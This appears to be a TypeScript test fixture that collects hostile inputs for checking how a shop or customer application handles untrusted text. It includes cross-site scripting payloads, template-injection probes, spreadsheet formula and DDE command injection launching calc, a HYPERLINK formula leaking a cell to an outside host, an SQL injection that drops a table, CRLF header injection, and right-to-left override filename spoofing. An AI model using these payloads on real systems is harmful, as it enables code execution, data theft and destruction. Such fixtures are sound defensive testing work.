/** Texts that try to be more than texts wherever they are shown; each marks itself, to be found again. */
export const HOSTILE_LINES: Readonly<Record<string, string>> = {
  markup: `"><script>window.__ran=1;alert('ran')</script>`,
  image: "<img src=x onerror=\"window.__ran=1;alert('ran')\">",
  "a drawing": "'><svg/onload=window.__ran=1><a href=javascript:alert(1)>x</a>",
  "ends of everything": "</title></style></textarea></script></template><!--]]>--><iframe>",
  "a link": "javascript:window.__ran=1//https://shop.example/",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what others take for a template
  templates: "{{7*7}} ${7*7} <%=7*7%> #{7*7} {{constructor.constructor('alert(1)')()}}",
  entities: "&lt;b&gt;&amp;amp;&#60;script&#62;&quot;",
  escapes: "\\u003cscript\\u003e \\x3cb\\x3e %3Cscript%3E %0d%0aSet-Cookie:a=b %s %n %00",
  names: "__proto__ constructor toString undefined null [object Object]",
  "a formula": '=HYPERLINK("http://shop.example/?"&A1,"Click")',
  "a command": "+cmd|' /C calc'!A0",
  "a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a negative formula": "-2+3+cmd|' /C calc'!A0",
  "a tab before a formula": "\t=1+1",
  "a formula behind a mark": "\u200f=1+1",
  "a wide formula": "\uff1d1+1",
  SQL: "'; DROP TABLE quotes; -- %' OR 1=1",
  "a turn": "\u202edlog-dilos\u202c",
  "an isolated turn": "\u2067\u202edlog\u202c\u2069",
  "right to left": "שולחן عربي ١٢٣",
  "no width": "zero\u200bwidth\u200djoined\ufeffmark\u00adsoft\u2060word",
  "a long word": "Wor".repeat(38),
  emoji: "👩🏽‍🏭🇺🇸🧰🏳️‍🌈",
  "a tower of marks": `Z${"\u0301\u0323".repeat(24)}algo`,
  ligatures: "﷽ ⸻ 𒐫 ꧅",
  quotes: "`'\"´“”«»",
};

/** A turn of direction without an end: whatever stands after it on the line would be shown reversed. */
export const OPEN_TURN = "\u202eevil.exe\u2066x";

/** What a text may hold where lines may be broken, in 4,000 characters. */
export const HOSTILE_NOTE = [
  "=1+1",
  ...Object.values(HOSTILE_LINES),
  OPEN_TURN,
  "a separator\u2028of lines\u2029and of paragraphs",
  "\r=1+1",
  "W".repeat(2500),
]
  .join("\n")
  .padEnd(4000, "=")
  .slice(0, 4000);

/** What a browser's address field and the schema let through. */
const EMAIL = "a'?cc=boss&bcc=x`{7*7}%0d%0aSubject=ran/#=@shop.example";

/** A customer whose every fact tries to be more than a text. */
export const HOSTILE_CUSTOMER = {
  name: OPEN_TURN,
  company: HOSTILE_LINES.markup ?? "",
  email: EMAIL,
  phone: "+cmd|' /C calc'!A0",
  notes: HOSTILE_NOTE,
};
